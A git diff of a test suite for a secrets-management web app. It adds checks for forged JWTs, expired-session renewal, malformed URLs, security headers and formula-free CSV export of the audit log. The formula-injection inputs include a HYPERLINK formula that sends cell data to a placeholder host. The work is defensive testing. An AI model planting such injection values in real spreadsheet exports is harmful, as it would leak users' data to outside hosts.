@@ -9,7 +9,7 @@ import { after, before, describe, test } from 'node:test';
 import { setTimeout } from 'node:timers/promises';
 import { Service } from '../../demo/web/processes.ts';
 import { sign } from '../../demo/web/tokens.ts';
-import { caller, fine, heard, parseCsv, refused, signIn, unflatten, type Call } from './api.ts';
+import { asSpreadsheet, caller, fine, heard, parseCsv, refused, signIn, unflatten, type Call } from './api.ts';
 import { ALICE, asService, BLOG, BOB, OPERATOR, SHOP, startStack } from './support.ts';
 
 const stack = await startStack({ port: 0 });
@@ -229,6 +229,7 @@ describe('who may what', () => {
 			'with an unknown key': `${part({ alg: 'ES256', kid: 'x', typ: 'JWT' })}.${payload}.${signature}`,
 			'cut off': genuine.slice(0, -4),
 			'no JSON': 'YQ.YQ.YQ',
+			'JSON of another kind': `${part(null)}.${part({ sub: 'x', exp: 99999999999 })}.c2ln`,
 			'no token': 'x',
 			'expired': stack.token({ sub: ALICES_ID, role: 'authenticated' }, -10),
 			'the public key': stack.anonKey,
@@ -294,6 +295,15 @@ describe('who may what', () => {
 	});
 });
 
+/** The cookie of a session of Alice's whose token has expired. */
+async function expiredSession(more: object = {}): Promise<string> {
+	const { cookie } = await signIn(stack.url, ALICE);
+	const session = JSON.parse(Buffer.from(cookie.replace(`${COOKIE}=base64-`, ''), 'base64url').toString());
+	session.access_token = stack.token({ sub: ALICES_ID, role: 'authenticated' }, -10);
+	const expired = JSON.stringify({ ...session, expires_at: 1, ...more });
+	return `${COOKIE}=base64-${Buffer.from(expired).toString('base64url')}`;
+}
+
 describe('a session', () => {
 	test('begins with the form and is a cookie that no script can read', async () => {
 		const { response, set, cookie } = await signIn(stack.url, ALICE, { next: '/projects?tab=1' });
@@ -319,16 +329,30 @@ describe('a session', () => {
 	});
 
 	test('is renewed when its token has expired', async () => {
-		const { cookie } = await signIn(stack.url, ALICE);
-		const value = cookie.replace(`${COOKIE}=base64-`, '');
-		const session = JSON.parse(Buffer.from(value, 'base64url').toString());
-		session.access_token = stack.token({ sub: ALICES_ID, role: 'authenticated' }, -10);
-		session.expires_at = 1;
-		const expired = `${COOKIE}=base64-${Buffer.from(JSON.stringify(session)).toString('base64url')}`;
-		const answer = await caller(stack.url, { cookie: expired })('GET', SECRETS);
-		fine(answer);
-		assert.ok(answer.headers.getSetCookie().length > 0);
-		for (const one of answer.headers.getSetCookie()) assert.match(one, /HttpOnly/);
+		const browser = caller(stack.url, { cookie: await expiredSession() });
+		// A page asks for several things at a time, all with the same cookie.
+		for (const answer of await Promise.all([1, 2, 3].map(() => browser('GET', SECRETS)))) {
+			fine(answer);
+			assert.ok(answer.headers.getSetCookie().length > 0);
+			for (const one of answer.headers.getSetCookie()) assert.match(one, /HttpOnly/);
+		}
+	});
+
+	test('is renewed also by a request that is refused, and forgotten when it cannot be', async () => {
+		const refusedOnes = [
+			['POST', '/login', 403, 'text/plain'], ['GET', '/api/nothing', 404, 'application/json'],
+		] as const;
+		for (const [method, path, status, type] of refusedOnes) {
+			const answer = await caller(stack.url, { cookie: await expiredSession() })(method, path);
+			assert.equal(answer.status, status, path);
+			assert.ok(answer.headers.get('content-type')!.startsWith(type));
+			assert.ok(answer.headers.getSetCookie().some((one) => one.startsWith(`${COOKIE}=`)), path);
+		}
+		const unknown = await expiredSession({ refresh_token: 'unknown' });
+		for (const path of ['/', SECRETS]) {
+			const { headers } = await caller(stack.url, { cookie: unknown })('GET', path);
+			assert.ok(headers.getSetCookie().some((one) => one.includes('Max-Age=0')), path);
+		}
 	});
 
 	test('does not begin with a wrong password', async () => {
@@ -363,6 +387,9 @@ describe('a session', () => {
 		for (const [path, location] of [['/', '/login?next=%2F'], ['/nothing?a=b', '/login?next=%2Fnothing%3Fa%3Db']]) {
 			const answer = await anonymous('GET', path);
 			assert.deepEqual([answer.status, answer.headers.get('location')], [303, location]);
+			assert.equal(answer.headers.get('cache-control'), 'no-store');
+			assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
+			assert.match(answer.headers.get('content-security-policy')!, /^default-src 'none'/);
 		}
 		assert.equal((await anonymous('GET', '/login')).status, 200);
 		assert.equal((await caller(stack.url, { cookie: `${COOKIE}=base64-bm9uc2Vuc2U` })('GET', '/')).status, 303);
@@ -380,6 +407,31 @@ describe('a session', () => {
 		const operators = await layoutOf(operator, '');
 		assert.deepEqual([operators.user.operator, operators.projects], [true, []]);
 	});
+});
+
+test('a malformed address is refused, and nothing else happens', async () => {
+	for (const [path, headers] of [
+		['/%E0%A4%A', {}], ['/api/%FF', {}], ['/%FF/__data.json', {}],
+		['/_app/remote/a/b', { 'x-sveltekit-pathname': '/%FF' }],
+	] as const) {
+		for (const call of [anonymous, alice]) {
+			const answer = await call('GET', path, undefined, headers);
+			assert.equal(answer.status, 400, path);
+			assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
+		}
+	}
+	fine(await alice('GET', SECRETS));
+});
+
+test('a method that an address does not take is refused in JSON, with those that it takes', async () => {
+	for (const [method, path, allow] of [
+		['PUT', SECRETS, 'GET, POST, HEAD'], ['GET', `${SECRETS}/${NOWHERE}/reveal`, 'POST'],
+		['POST', '/api/audit-logs', 'GET, HEAD'],
+	] as const) {
+		const answer = await alice(method, path);
+		refused(answer, 405, 'method_not_allowed');
+		assert.equal(answer.headers.get('allow'), allow);
+	}
 });
 
 test('other sites cannot write with a user\'s cookie', async () => {
@@ -438,7 +490,8 @@ describe('the audit log', () => {
 	});
 
 	test('is a file for spreadsheets, whole and without formulas', async () => {
-		const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '"quoted", and more\r\nlines'];
+		const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '"quoted", and more\r\nlines',
+			'run;=HYPERLINK("http://x/?"&A1)', ' =1+1', 'a\t=1', 'a;"=1"', 'a,\n=1', '"=1', 'x";=1;"', ';;@A1'];
 		const client = asService(stack);
 		for (const purpose of formulas) {
 			const { error } = await client.rpc('secret_get', { project_id: SHOP, name: 'SMTP_PASSWORD', purpose });
@@ -462,8 +515,16 @@ describe('the audit log', () => {
 		for (let n = 1; n <= 2345; n++) assert.ok(purposes.has(`n${n}`), `n${n}`);
 		const ids = column('id').filter((id) => id);
 		assert.equal(new Set(ids).size, ids.length);
-		for (const formula of formulas) assert.ok(purposes.has(formula.startsWith('"') ? formula : `'${formula}`), formula);
-		assert.ok(rows.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)));
+		for (const formula of formulas) {
+			assert.ok([...purposes].some((purpose) => purpose.replaceAll("'", '') === formula), formula);
+		}
+		// Where the comma is the decimal point, spreadsheets split at semicolons; some people's at tabs.
+		for (const separator of [',', ';', '\t']) {
+			for (const cell of asSpreadsheet(answer.body, separator)) {
+				const [first = ''] = cell.trimStart();
+				assert.ok(!'=+-@'.includes(first) || first === '', `split at ${separator}: ${cell}`);
+			}
+		}
 		refused(await bob('GET', `/api/audit-logs?project_id=${SHOP}&format=csv`), 403, '42501');
 	});
 });
@@ -531,8 +592,11 @@ test('pages come with what they show, and no value', async () => {
 describe('in production', () => {
 	// Supabase behind something that can lose it, and the page behind https.
 	let lost = '';
+	let hangs = '';
+	let hanging = 0;
 	const supabase = createServer((request, response) => {
 		if (lost && request.url!.startsWith(lost)) return void request.socket.destroy();
+		if (hangs && request.url!.startsWith(hangs)) return void hanging++;
 		const { method, headers } = request;
 		const forward = send(stack.supabaseUrl + request.url, { method, headers }, (answer) => {
 			response.writeHead(answer.statusCode!, answer.headers);
@@ -584,6 +648,24 @@ describe('in production', () => {
 		const large = (length: number) => here('POST', SECRETS, { name: 'LARGE', value: 'x'.repeat(length) });
 		assert.match(refused(await large(1_048_576), 413, 'PT413').detail, /1048576 bytes/);
 		assert.equal(refused(await large(1_700_000), 413, 'PT413').detail, null);
+	});
+
+	test('who does not answer is given up on', async () => {
+		const isHanging = async (number: number) => {
+			while (hanging < number) await setTimeout(20);
+		};
+		hangs = '/rest/';
+		// The first asks with GET, the second with POST.
+		const calls = [here('GET', `${SECRETS}/${NOWHERE}/versions`)];
+		await isHanging(1);
+		calls.push(here('POST', SECRETS, { name: 'HANGS', value: CANARY }));
+		await isHanging(2);
+		hangs = '/auth/';
+		calls.push(here('GET', SECRETS));
+		await isHanging(3);
+		hangs = '';
+		for (const answer of await Promise.all(calls)) refused(answer, 502, 'unavailable');
+		assert.equal(hanging, 3, 'tried again');
 	});
 
 	test('an outage is told apart from a refusal', async () => {
